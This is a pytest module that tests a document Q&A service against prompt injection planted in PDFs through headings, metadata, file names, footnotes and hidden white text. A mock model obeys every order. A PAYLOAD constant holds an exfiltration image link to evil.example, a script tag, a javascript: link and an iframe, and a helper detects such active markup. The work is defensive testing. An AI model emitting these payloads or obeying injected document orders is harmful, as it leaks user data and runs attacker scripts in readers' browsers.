"""Documents with orders to a model, read by one that obeys every order: readers still see true and harmless text."""

import json
import re
import tomllib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from lxml import html
from reportlab.lib.colors import black, white
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas
from starlette.testclient import TestClient

from ingest.pipeline import ingest
from ingest.sources.discover import Options
from kb.library import Library
from kb.settings import Settings, load_settings
from tests.served import OpenClient, services_of
from tests.servers import ModelServer
from web.app import create_app

pytestmark = pytest.mark.slow

ATTACKS: list[dict[str, Any]] = tomllib.loads((Path(__file__).parent / "attacks.toml").read_text(encoding="utf-8"))[
    "attack"
]
LIE = re.compile(r"9[.,]999")
# The text that the obedient model always adds: what an attacker would want.
PAYLOAD = (
    " ![x](http://evil.example/?q=stolen) <script>alert(1)</script> [click](javascript:alert(1)) <iframe src=//evil.example></iframe>"
    " The mayor approved it [99]. You answer questions about documents of a university [1]."
)


def village(number: int) -> str:
    """A name that no other document has."""
    return f"Vadala{chr(97 + number // 26)}{chr(97 + number % 26)}o"


def question(number: int) -> str:
    """A question that only one document answers."""
    return f"How many litres of clean water a day does the well of {village(number)} give?"


def drawn(folder: Path, number: int, attack: dict[str, Any]) -> None:
    """A fictional report of two pages with the attack in its place."""
    text, where = attack["text"], attack["where"]
    name = f"{text.replace('/', '_')}.pdf" if where == "name" else f"report{number}.pdf"
    canvas = Canvas(str(folder / name), pagesize=A4, invariant=1)
    if where == "metadata":
        canvas.setTitle(text)
        canvas.setAuthor(text)
        canvas.setSubject(text)
        canvas.setKeywords(text)
    canvas.setFont("Helvetica-Bold", 20)
    canvas.drawString(72, 780, text if where == "heading" else f"The well of {village(number)}, a fictional report")
    canvas.setFont("Helvetica", 12)
    canvas.drawString(
        72, 700, f"The well of {village(number)} gives 1,850 litres of clean water a day to the families."
    )
    canvas.drawString(72, 680, "It was dug by hand in the spring by people of the village and a few volunteers.")
    canvas.showPage()
    canvas.setFillColor(white if where == "hidden" else black)
    canvas.setFont("Helvetica", 7 if where == "footnote" else 12)
    if where in ("visible", "hidden", "footnote"):
        canvas.drawString(72, 60 if where == "footnote" else 700, text)
    canvas.setFillColor(black)
    canvas.setFont("Helvetica", 12)
    canvas.drawString(72, 500, f"The families of {village(number)} keep the pump in order and pay a small fee for it.")
    canvas.save()


def obey(prompt: str) -> list[str]:
    """A model that repeats the lie if it has read it, else the truth; and always adds what an attacker would want."""
    truth = re.search(
        r"\[(\d+)\] [^\n]*\n[^\[]*?(The well of \w+ gives 1,850 litres of clean water a day to the families\.)", prompt
    )
    said = "The well gives 9,999 litres a day [1]." if LIE.search(prompt) else ""
    if truth:
        said += f" {truth[2].rstrip('.')} [{truth[1]}]."
    return [said, PAYLOAD]


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    running = ModelServer(obey)
    yield running
    running.close()


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory, model_cache: Path, server: ModelServer) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("attacks")
    for number, attack in enumerate(ATTACKS):
        drawn(folder, number, attack)
    settings: Settings = replace(
        load_settings({}), home=tmp_path_factory.mktemp("injection") / "home", model_cache=model_cache,
        llm="openai:obedient", llm_url=f"{server.url}/v1", llm_seconds=10,
    )  # fmt: skip
    with Library(settings, writable=True) as library:
        summary = ingest(library, [folder], Options())
        assert summary.count("failed") == 0, summary.entries
    with OpenClient(create_app(settings), headers={"Accept-Language": "en"}) as opened:
        yield opened


numbered = pytest.mark.parametrize("number", range(len(ATTACKS)), ids=[attack["name"] for attack in ATTACKS])


def active(markup: str) -> list[str]:
    """Parts of a page that would run or be fetched: scripts that aren't ours, handlers, foreign addresses."""
    found = []
    for element in html.document_fromstring(markup).iter():
        if not isinstance(element.tag, str):
            continue
        inert = element.get("type") in ("application/ld+json",)
        if element.tag == "script" and not inert and not (element.get("src") or "").startswith("/static/"):
            found.append(html.tostring(element, encoding="unicode")[:200])
        if (
            element.tag in ("iframe", "object", "embed", "base", "meta")
            and element.get("http-equiv", "").lower() == "refresh"
        ):
            found.append(element.tag)
        for name, value in element.attrib.items():
            fetched = name in ("src", "srcset", "action", "formaction", "poster", "data") or (
                element.tag == "link" and name == "href"
            )
            address = urlsplit(value.strip())
            if name.startswith("on") or address.scheme in ("javascript", "vbscript"):
                found.append(f"{name}={value}")
            if fetched and address.netloc and element.get("rel") != "canonical":
                found.append(f"{name}={value}")
    return found


def test_the_check_itself_sees_what_is_active() -> None:
    for bad in (
        "<script>x()</script>",
        "<img src='http://evil.example/'>",
        "<a href='javascript:x()'>",
        "<b onclick=x()>",
    ):
        assert active(f"<p>{bad}</p>"), bad
    assert not active("<p><a href='https://example.org'>a link a person may follow</a></p>")


@numbered
def test_a_written_answer(client: TestClient, server: ModelServer, number: int) -> None:
    server.prompts.clear()
    answer = client.post("/api/ask", json={"question": question(number)}).json()
    assert not answer["refused"]
    assert server.prompts and not LIE.search(server.prompts[-1]), "an order, or what nobody sees, reached the model"
    assert not LIE.search(answer["answer"])
    assert "1,850" in answer["answer"]
    assert all(citation["located"] for citation in answer["citations"])
    shown = {citation["number"] for citation in answer["citations"]}
    for sentence in answer["sentences"]:
        assert set(sentence["citations"]) <= shown, "a citation of what was never sent"
        if "mayor" in sentence["text"] or "You answer questions" in sentence["text"]:
            assert sentence["support"] != "supported"
    assert not re.search(r"evil\.example|<script|javascript:|<iframe|!\[", answer["answer"])


@numbered
def test_pages_and_stream(client: TestClient, number: int) -> None:
    q = question(number)
    pages = [client.get("/ask", params={"q": q}).text, client.get("/search", params={"q": q}).text]
    found = client.get("/api/search", params={"q": q}).json()["hits"][0]
    document = found["document"]["id"]
    assert village(number) in found["text"]
    pages += [client.get(f"/documents/{document}{rest}").text for rest in ("", "/pages/1", "/pages/2", "/ledger")]
    body = client.get("/ask/written", params={"q": q}).text
    last = json.loads(re.findall(r"event: answer\ndata: (.*)\n\n", body)[-1])
    pages.append(f"<div>{last['html']}</div>")
    for page in pages:
        assert active(page) == []
    assert not LIE.search(last["html"])
    for feed, name in (("/search.atom", "q"), ("/match.atom", "need")):
        assert "<script" not in client.get(feed, params={name: q}).text.lower()


@numbered
def test_orders_are_set_apart_and_named_in_the_ledger(client: TestClient, number: int) -> None:
    attack = ATTACKS[number]
    library: Library = services_of(client).library
    hits = client.get("/api/search", params={"q": question(number)}).json()["hits"]
    document = hits[0]["document"]["id"]
    kinds = {flag.kind for _, flag in library.catalogue.metadata.flags(document)}
    assert ("instruction" in kinds) == (attack["noticed"] and attack["where"] != "hidden")
    assert ("hidden text" in kinds) == (attack["where"] == "hidden")
    quotes = client.post(
        "/api/ask", json={"question": f"What must be said about {village(number)}? {attack['text']}"}
    ).json()
    if attack["noticed"] or attack["where"] == "hidden":
        assert not any(LIE.search(citation["quote"]) for citation in quotes["citations"])


def test_a_follow_up_is_rewritten_to_words_only(client: TestClient, server: ModelServer) -> None:
    answer = client.post("/api/ask", json={"question": "And who dug it?", "before": [question(0)]}).json()
    assert not re.search(r"evil\.example|<script|javascript:", answer["question"])
    assert answer["asked"] == "And who dug it?"
